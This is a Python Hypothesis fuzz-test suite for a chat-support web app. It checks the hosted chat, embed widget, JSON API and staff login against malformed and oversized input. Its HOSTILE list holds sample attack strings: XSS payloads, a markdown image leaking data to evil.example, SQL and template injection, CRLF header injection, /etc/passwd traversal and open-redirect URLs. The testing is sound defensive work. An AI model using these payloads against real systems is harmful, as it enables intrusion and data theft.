"""Hostile input at every public door: the hosted chat and its fragments, escalation and
handoff, the embed page and its loader, the JSON API and the staff login.

Properties (Hypothesis): no request ever gets a 5xx; an input over its limit gets a 4xx,
stores nothing and calls no model. tests/test_api_schema.py already walks the API's
OpenAPI document with Schemathesis; here the API gets what a schema does not describe:
raw and malformed bodies, hostile headers, 1 MB inputs.

Examples are bounded (FUZZ_EXAMPLES, default 25 per test) so the suite stays quick. Each
test builds its app once and Hypothesis reuses it across examples (hence the suppressed
function-scoped-fixture check): every property holds whatever earlier examples left.
"""

import json
import os
import re
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.extensions import db
from app.forms import SUMMARY_MAX_CHARS
from app.models import ChatSession, Message, Site, StaffUser, Ticket
from tests.conftest import csrf_token_in
from tests.factories import make_staff

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "25"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,  # one app per test, shared by its examples
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
MAX_MESSAGE_CHARS = 2000  # the setting's default, which the test app keeps
MEGABYTE = 1024 * 1024

# No limit may turn a fuzzed request into a 429 and hide what it would have done.
pytestmark = pytest.mark.app_config(
    API_LIMIT_PER_IP="100000 per minute",
    API_LIMIT_PER_SESSION="100000 per minute",
    LOGIN_LIMIT_PER_IP="100000 per minute",
    LOGIN_LIMIT_PER_ACCOUNT="100000 per minute",
)

HOSTILE = [
    "",
    " \t ",
    "\x00",
    "nul\x00inside",
    "\x00" * 64,
    "\u202eevil.exe\u202c",
    "\u200f\u200e\u2066right-to-left\u2069\u061c",
    "مرحبا، أين طلبي؟",
    "😀🔥👨‍👩‍👧‍👦🏳️‍🌈",
    "\ufeffbom",
    "\uffff\ufffe",
    "e\u0301" * 500,  # combining marks
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<div hx-get='/admin' hx-trigger='load'>",
    "[click](javascript:alert(1)) ![x](https://evil.example/leak.png?q=secret)",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    '{"message": "hi", "session_id": null}',
    "[]",
    "null",
    "line\r\nX-Injected: yes",
    "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "%0d%0aSet-Cookie:%20x=1",
    "' OR '1'='1'; --",
    "../../../../etc/passwd",
    "4111 1111 1111 1111",
    "a" * 5000,
]


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=max_size),
        st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join),
    )


# Header values as a server hands them over (latin-1), CR/LF included, up to 64 KB.
header_value = st.one_of(
    st.sampled_from(["", "\x00", "\r\nX-Injected: yes", "null", "Bearer ", "é" * 100]),
    st.text(alphabet=st.characters(max_codepoint=255), max_size=200),
    st.integers(min_value=1_000, max_value=65_536).map(lambda n: "t" * n),
)


def hostile_headers(token: str | None = None) -> st.SearchStrategy[dict]:
    """WSGI environ entries (so even CR/LF get through): a hostile or real chat token,
    HX-Request, Origin, Referer, Last-Event-ID, Authorization, Accept-Language."""
    tokens = st.one_of(header_value, st.just(token)) if token else header_value
    return st.fixed_dictionaries(
        {},
        optional={
            "HTTP_X_CHAT_TOKEN": tokens,
            "HTTP_HX_REQUEST": st.sampled_from(["true", "false", "", "\x00"]),
            "HTTP_REFERER": header_value,
            "HTTP_LAST_EVENT_ID": header_value,
            "HTTP_AUTHORIZATION": header_value.map(lambda v: "Bearer " + v),
            "HTTP_ACCEPT_LANGUAGE": header_value,
            "HTTP_USER_AGENT": header_value,
        },
    )


message_ids = st.one_of(
    st.integers(min_value=0, max_value=20).map(str),
    st.integers(min_value=2**31, max_value=2**80).map(str),
    st.sampled_from(["-1", "0x10", "1e9", "١٢", "%00", "1.5", " 1"]).map(quote),
)


def counts() -> tuple[int, int, int]:
    db.session.rollback()  # see what the requests committed
    return tuple(
        db.session.scalar(db.select(db.func.count()).select_from(model))
        for model in (ChatSession, Message, Ticket)
    )


def fetch(client, method: str, url: str, environ: dict | None = None, **kwargs):
    response = client.open(url, method=method, environ_overrides=environ or {}, **kwargs)
    body = response.get_data(as_text=True)
    assert response.status_code < 500, (method, url, response.status_code, body[:500])
    return response


def over_limit(text: str, limit: int) -> bool:
    return len(text.replace("\x00", "").strip()) > limit


@pytest.fixture
def token(customer) -> str:
    """A real chat, with one exchange, whose token examples may use."""
    customer.ask("Hello")
    return customer.token


# The hosted chat and its fragments.


@FUZZ
@given(text=hostile_text(3000), environ=hostile_headers("real"), htmx=st.booleans())
def test_sending_any_message_never_fails(client, token, model_server, text, environ, htmx):
    if environ.get("HTTP_X_CHAT_TOKEN") == "real":
        environ["HTTP_X_CHAT_TOKEN"] = token
    if htmx:
        environ["HTTP_HX_REQUEST"] = "true"
    before, calls = counts(), len(model_server.requests)
    response = fetch(client, "POST", "/chat/messages", environ, data={"message": text})
    if over_limit(text, MAX_MESSAGE_CHARS) or not text.replace("\x00", "").strip():
        assert response.status_code == 422
        assert counts() == before and len(model_server.requests) == calls


@FUZZ
@given(
    path=st.sampled_from(
        [
            "/",
            "/chat/thread",
            "/chat/messages/{id}",
            "/chat/messages/{id}/stream",
            "/chat/handoff",
            "/chat/escalation",
            "/chat/delete",
            "/chat/updates?after={id}&state={text}",
            "/?{text}={text}",
        ]
    ),
    message_id=message_ids,
    text=hostile_text(100).map(quote),
    environ=hostile_headers("real"),
    method=st.sampled_from(["GET", "POST", "HEAD"]),
)
def test_reading_the_chat_never_fails(client, token, path, message_id, text, environ, method):
    if environ.get("HTTP_X_CHAT_TOKEN") == "real":
        environ["HTTP_X_CHAT_TOKEN"] = token
    url = path.format(id=message_id, text=text)
    fetch(client, method, url, environ, data={"chat_token": environ.get("HTTP_X_CHAT_TOKEN", "")})


@FUZZ
@given(
    summary=hostile_text(1500),
    email=hostile_text(300),
    path=st.sampled_from(["/chat/escalation", "/chat/escalation/contact", "/chat/assistant"]),
    environ=hostile_headers("real"),
)
def test_escalation_and_handoff_never_fail(client, token, path, summary, email, environ):
    if environ.get("HTTP_X_CHAT_TOKEN") == "real":
        environ["HTTP_X_CHAT_TOKEN"] = token
    tickets = counts()[2]
    response = fetch(client, "POST", path, environ, data={"summary": summary, "email": email})
    if path == "/chat/escalation" and over_limit(summary, SUMMARY_MAX_CHARS):
        assert 400 <= response.status_code < 500
        assert counts()[2] == tickets


@FUZZ
@given(confirm=hostile_text(50), environ=hostile_headers("real"))
def test_deleting_the_conversation_never_fails(client, token, confirm, environ):
    if environ.get("HTTP_X_CHAT_TOKEN") == "real":
        environ["HTTP_X_CHAT_TOKEN"] = token
    before = counts()
    fetch(client, "POST", "/chat/delete", environ, data={"confirm": confirm})
    if confirm != "yes":  # only the confirmation deletes
        assert counts() == before


# The widget.


@pytest.fixture
def site_key(app) -> str:
    site = Site(name="Shop", allowed_origins="https://shop.example.com")
    db.session.add(site)
    db.session.commit()
    return site.key


@FUZZ
@given(
    key=st.one_of(st.just("real"), hostile_text(100)),
    color=st.one_of(st.sampled_from(["#fff", "#0b6e4f", "#fff\n}", "red;x:y"]), hostile_text(50)),
    greeting=hostile_text(500),
    environ=hostile_headers(),
)
def test_the_embed_page_and_loader_never_fail(client, site_key, key, color, greeting, environ):
    key = site_key if key == "real" else quote(key, safe="")
    query = f"color={quote(color)}&greeting={quote(greeting)}"
    page = fetch(client, "GET", f"/embed/{key}?{query}", environ)
    if page.status_code == 200:
        html = page.get_data(as_text=True)
        # The greeting is text: none of its markup becomes an element.
        assert "<script>alert" not in html and "<img" not in html and "<svg" not in html
    theme = fetch(client, "GET", f"/embed/theme.css?{query}", environ)
    css = theme.get_data(as_text=True)
    assert theme.status_code == 400 or re.fullmatch(
        r":root \{ --accent: #[0-9a-fA-F]{3,8}\s?; \}\n", css
    ), css
    fetch(client, "GET", "/widget.js", environ)


# The JSON API: what Schemathesis does not send.

surrogates = st.text(st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), min_size=1)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | hostile_text(100) | surrogates,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(hostile_text(10), children, max_size=4)
    ),
    max_leaves=12,
)
MALFORMED = [
    b"",
    b"\xff\xfe\x00",
    b'{"message": "\xff\xfe"}',
    b'{"message": "\\ud800"}',  # a lone surrogate: no database can store it
    b'{"message": "ok", "session_id": {"\\udfff": 1}}',
    b'{"message": 1e999}',
    b'{"message": "x", "message": ["y"]}',
    b"[" * 100_000,  # nesting deep enough to exhaust a recursive parser
    b'{"message": ' + b"[" * 100_000,
]
raw_bodies = st.one_of(
    st.binary(max_size=300),
    st.sampled_from([*MALFORMED, b'{"message": "a\\u0000b"}', b'{"message": "\\u202e"}']),
    json_values.map(lambda value: json.dumps(value).encode()),
    st.fixed_dictionaries(
        {"message": hostile_text(3000) | surrogates.map(lambda s: "hi " + s)},
        optional={"session_id": json_values, "issue_summary": hostile_text(1500)},
    ).map(lambda value: json.dumps(value).encode()),
)


@FUZZ
@given(
    path=st.sampled_from(["/api/chat/", "/api/escalate/", "/api/messages/{id}"]),
    message_id=message_ids,
    body=raw_bodies,
    content_type=st.sampled_from(
        ["application/json"] * 4 + ["text/plain", "application/x-www-form-urlencoded", ""]
    ),
    environ=hostile_headers(),
    real_session=st.booleans(),
)
def test_the_json_api_never_fails(
    client, token, path, message_id, body, content_type, environ, real_session
):
    if real_session:
        environ["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    method = "GET" if "{id}" in path else "POST"
    url = path.format(id=message_id)
    fetch(client, method, url, environ, data=body, content_type=content_type or None)


@pytest.mark.parametrize("body", MALFORMED, ids=lambda body: repr(body[:24]))
@pytest.mark.parametrize("path", ["/api/chat/", "/api/escalate/"])
def test_malformed_json_is_a_400_and_changes_nothing(client, token, model_server, path, body):
    before, calls = counts(), len(model_server.requests)
    response = fetch(client, "POST", path, data=body, content_type="application/json")
    assert response.status_code == 400, response.get_json()
    assert response.get_json()["error"]["code"] == "malformed"
    assert counts() == before and len(model_server.requests) == calls


@pytest.mark.parametrize(
    "url", ["/embed/%00", "/embed/a%00b?color=%23fff", "/embed/theme.css?color=%00", "/?q=%00"]
)
def test_a_nul_in_the_address_is_a_400(client, url):
    """PostgreSQL refuses NUL in text: a key carrying one failed in the query (a 500)."""
    assert fetch(client, "GET", url).status_code == 400


def test_a_nul_in_a_staff_search_is_a_400(client, auth):
    make_staff()
    auth.login()
    assert fetch(client, "GET", "/admin/faq/?search=a%00b").status_code == 400
    assert fetch(client, "GET", "/admin/faq/?search=ab").status_code == 200


# Staff login.


@FUZZ
@given(
    email=hostile_text(300),
    password=hostile_text(300),
    next_url=st.one_of(
        st.sampled_from(["//evil.example", "javascript:alert(1)"]), hostile_text(100)
    ),
    with_csrf=st.booleans(),
    environ=hostile_headers(),
)
def test_login_never_fails(client, email, password, next_url, with_csrf, environ):
    data = {"email": email, "password": password}
    if with_csrf:
        data["csrf_token"] = csrf_token_in(client.get("/auth/login").get_data(as_text=True))
    response = fetch(client, "POST", f"/auth/login?next={quote(next_url)}", environ, data=data)
    assert response.status_code in (400, 401)  # no such account: never logged in
    fetch(client, "GET", f"/auth/login?next={quote(next_url)}", environ)


# Over the limit: a 4xx, nothing stored, no model call, at every door.

too_long = st.one_of(
    st.integers(min_value=MAX_MESSAGE_CHARS + 1, max_value=MAX_MESSAGE_CHARS + 2000),
    st.just(MEGABYTE),
).flatmap(lambda size: st.sampled_from(["a", "é", "😀", "<b>", " x\x00"]).map(lambda s: s * size))


@FUZZ
@given(text=too_long, htmx=st.booleans(), door=st.sampled_from(["hosted", "api", "api-new"]))
def test_an_over_limit_message_changes_nothing(client, token, model_server, text, htmx, door):
    before, calls = counts(), len(model_server.requests)
    if door == "hosted":
        headers = {"X-Chat-Token": token} | ({"HX-Request": "true"} if htmx else {})
        response = fetch(client, "POST", "/chat/messages", headers=headers, data={"message": text})
    else:
        body = {"message": text} | ({"session_id": token} if door == "api" else {})
        response = fetch(client, "POST", "/api/chat/", json=body)
    assert 400 <= response.status_code < 500, response.status_code
    assert counts() == before
    assert len(model_server.requests) == calls


@FUZZ
@given(size=st.sampled_from([SUMMARY_MAX_CHARS + 1, SUMMARY_MAX_CHARS + 500, MEGABYTE]))
def test_an_over_limit_escalation_opens_no_ticket(client, token, model_server, size):
    before, calls = counts(), len(model_server.requests)
    page = fetch(
        client,
        "POST",
        "/chat/escalation",
        headers={"X-Chat-Token": token, "HX-Request": "true"},
        data={"summary": "x" * size},
    )
    api = fetch(
        client, "POST", "/api/escalate/", json={"session_id": token, "issue_summary": "x" * size}
    )
    assert 400 <= page.status_code < 500 and 400 <= api.status_code < 500
    assert counts() == before and len(model_server.requests) == calls


def test_a_megabyte_login_is_refused_and_logs_nobody_in(client):
    make_staff()
    token = csrf_token_in(client.get("/auth/login").get_data(as_text=True))
    data = {"email": "agent@example.com", "password": "p" * MEGABYTE, "csrf_token": token}
    response = fetch(client, "POST", "/auth/login", data=data)
    assert 400 <= response.status_code < 500
    assert fetch(client, "GET", "/admin/").status_code == 302  # still anonymous
    assert db.session.scalar(db.select(db.func.count()).select_from(StaffUser)) == 1


def test_the_chat_the_examples_use_is_real(client, token):
    """The token examples send opens a chat with an answered question."""
    html = client.get("/chat/thread", headers={"X-Chat-Token": token, "HX-Request": "true"})
    assert html.get_data(as_text=True).count("bubble") == 2
